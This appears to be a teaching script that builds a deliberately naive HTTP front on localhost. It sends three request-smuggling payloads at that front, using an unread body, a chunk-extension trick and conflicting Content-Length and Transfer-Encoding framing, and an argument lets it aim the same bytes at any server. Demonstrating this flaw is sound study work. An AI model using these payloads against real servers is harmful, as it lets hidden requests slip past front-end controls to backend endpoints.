#!/usr/bin/env python3
# naive-front.py: a deliberately naive HTTP front, and requests that smuggle past it.
#
#   python3 naive-front.py                         attacks its own naive front
#   python3 naive-front.py http://127.0.0.1:8000   sends the same bytes to that server
#
# The naive front reads a request line and header lines, and answers `/` without
# reading the body, as many handlers do: whatever the client sent as a body is then read
# as the next request. Each attack is one connection; the script counts the responses.
import socket
import sys
import threading

HIDDEN = b"GET /cgi-bin/hello.sh HTTP/1.1\r\nHost: x\r\n\r\n"
ATTACKS = [
    # A body the handler does not read, holding a request.
    ("an unread body",
     b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN) + HIDDEN),
    # A chunked body whose last chunk has an extension that reads like a request line,
    # and trailers that read like its header fields.
    ("a chunk extension",
     b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
     b"0;ext=\"x /cgi-bin/hello.sh HTTP/1.1\r\nHost: x\r\nX: \"\r\n\r\n"),
    # Two framings for one body, which a front and a back end may read differently.
    ("both framings",
     b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
     b"0\r\n\r\n" + HIDDEN),
]


def naive_front(listener):
    """Answers each request line it reads with 200 and the path, and reads no body."""
    while True:
        conn, _ = listener.accept()
        with conn, conn.makefile("rb") as f:
            while True:
                line = f.readline()
                if not line:
                    break
                if not line.strip():
                    continue
                parts = line.split()
                while f.readline().strip():
                    pass  # the header lines, up to the blank one
                path = parts[1].decode("latin-1") if len(parts) > 1 else "?"
                body = ("ran " + path + "\n").encode()
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)


def attack(host, port, request):
    """Sends `request` on one connection; returns the status line and body of each response."""
    with socket.create_connection((host, port)) as s:
        s.sendall(request)
        s.shutdown(socket.SHUT_WR)
        s.settimeout(5)
        data = b""
        while True:
            try:
                chunk = s.recv(65536)
            except (ConnectionResetError, socket.timeout):
                break
            if not chunk:
                break
            data += chunk
    answers = []
    while data.startswith(b"HTTP/"):
        head, _, rest = data.partition(b"\r\n\r\n")
        lines = head.split(b"\r\n")
        length = 0
        for h in lines[1:]:
            name, _, value = h.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value)
        answers.append((lines[0].decode().split(" ", 2)[1], rest[:length].decode().strip()))
        data = rest[length:]
    return answers


def main():
    if len(sys.argv) > 1:
        host, port = sys.argv[1].split("//")[1].rstrip("/").split(":")
        port = int(port)
    else:
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        host, port = listener.getsockname()
        threading.Thread(target=naive_front, args=(listener,), daemon=True).start()
    for name, request in ATTACKS:
        answers = attack(host, port, request)
        statuses = ", ".join(status for status, _ in answers)
        plural = "" if len(answers) == 1 else "s"
        line = "%s: %d response%s (%s)" % (name, len(answers), plural, statuses)
        ran = [body[4:] for _, body in answers if body.startswith("ran /cgi-bin/")]
        if ran:
            line += "; it ran " + ", ".join(ran)
        print(line)


main()
